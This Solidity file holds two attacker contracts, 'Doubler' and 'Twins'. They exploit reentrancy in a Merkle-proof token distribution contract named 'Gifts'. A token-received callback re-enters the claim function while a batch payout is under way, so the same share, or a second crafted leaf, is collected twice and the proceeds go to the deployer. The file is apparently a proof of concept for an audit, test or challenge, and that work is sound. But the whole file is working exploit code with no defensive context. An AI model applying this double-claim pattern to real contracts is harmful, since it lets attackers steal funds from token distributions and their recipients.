/// Takes its share among many, and by itself while it is being paid.
contract Doubler {
    Gifts private immutable gifts;
    Token private immutable token;
    address private immutable owner;
    uint256 private current;
    Part private mine;
    bool private waits;

    constructor(Gifts target, Token coin) {
        (gifts, token, owner) = (target, coin, msg.sender);
    }

    function open(uint256 id, uint256 total, uint256 span) external {
        token.approve(address(gifts), total);
        mine = Part(0, address(this), total);
        bytes32 leaf = keccak256(bytes.concat(keccak256(abi.encode(mine.number, mine.account, mine.amount))));
        gifts.open(id, token, leaf, total, 0, span);
    }

    function go(uint256 id) external {
        token.tellMe(true);
        (current, waits) = (id, true);
        uint256[] memory ids = new uint256[](1);
        Part[] memory shares = new Part[](1);
        (ids[0], shares[0]) = (id, mine);
        gifts.takeMany(ids, shares, new bytes32[][](1));
        token.tellMe(false);
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (!waits) return;
        waits = false;
        gifts.take(current, mine, address(this), new bytes32[](0));
    }
}

/// Has two shares of the whole, and takes the second one while the first is paid.
contract Twins {
    Gifts private immutable gifts;
    Token private immutable token;
    address private immutable owner;
    uint256 private current;
    uint256 private whole;
    bool private waits;

    constructor(Gifts target, Token coin) {
        (gifts, token, owner) = (target, coin, msg.sender);
    }

    function open(uint256 id, uint256 total, uint256 span) external {
        token.approve(address(gifts), total);
        (current, whole) = (id, total);
        (bytes32 a, bytes32 b) = (leaf(0), leaf(1));
        gifts.open(id, token, a < b ? keccak256(abi.encode(a, b)) : keccak256(abi.encode(b, a)), total, 0, span);
    }

    function go() external {
        token.tellMe(true);
        waits = true;
        uint256[] memory ids = new uint256[](1);
        Part[] memory shares = new Part[](1);
        bytes32[][] memory proofs = new bytes32[][](1);
        (ids[0], shares[0], proofs[0]) = (current, Part(0, address(this), whole), proofWith(1));
        gifts.takeMany(ids, shares, proofs);
        token.tellMe(false);
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (!waits) return;
        waits = false;
        gifts.take(current, Part(1, address(this), whole), address(this), proofWith(0));
    }

    function proofWith(uint256 number) private view returns (bytes32[] memory proof) {
        proof = new bytes32[](1);
        proof[0] = leaf(number);
    }

    function leaf(uint256 number) private view returns (bytes32) {
        return keccak256(bytes.concat(keccak256(abi.encode(number, address(this), whole))));
    }
}
